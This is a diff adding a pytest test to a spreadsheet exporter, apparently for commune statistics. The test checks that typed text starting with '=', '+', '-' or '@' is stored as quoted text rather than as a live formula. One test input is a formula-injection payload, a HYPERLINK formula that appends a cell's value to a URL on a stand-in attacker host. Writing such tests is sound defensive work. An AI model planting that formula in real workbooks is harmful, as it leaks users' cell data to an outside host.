@@ -216,3 +216,26 @@ def test_xml_entity_bombs_are_not_expanded():
 
 def test_openpyxl_parses_xml_through_defusedxml():
     assert openpyxl.DEFUSEDXML, "defusedxml must be installed (a dependency of the project)"
+
+
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")', "=1+1",
+                                  "+84 912 345 678", "-5 hồ sơ trễ", "@SUM(A1:A2)"])
+def test_typed_text_is_written_as_text_never_as_a_formula(text):
+    """Finding 12.8: a reason starting with "=" was written as a live formula (and failed re-import)."""
+    data = stats_workbook({**INFO, "commune_name": text}, {**STATS, "late_reasons": text},
+                          {**FINANCE, "disbursed_for": text})
+    for sheet_xml in (v for k, v in unzipped(data).items() if k.startswith("xl/worksheets/")):
+        assert b"<f>" not in sheet_xml, "no cell of the workbook is a formula"
+    book = load_workbook(io.BytesIO(data))
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
+    cell = book[SHEET][CELLS["late_reasons"]]
+    assert (cell.value, cell.data_type) == (text, "s")
+    assert cell.quotePrefix, "Excel keeps it text even when the cell is edited"
+    assert book[SHEET]["B2"].value == text
+    parsed = read_stats_workbook(data)
+    assert parsed.problems == []
+    assert parsed.texts["late_reasons"] == text
+    assert parsed.texts["disbursed_for"] == text
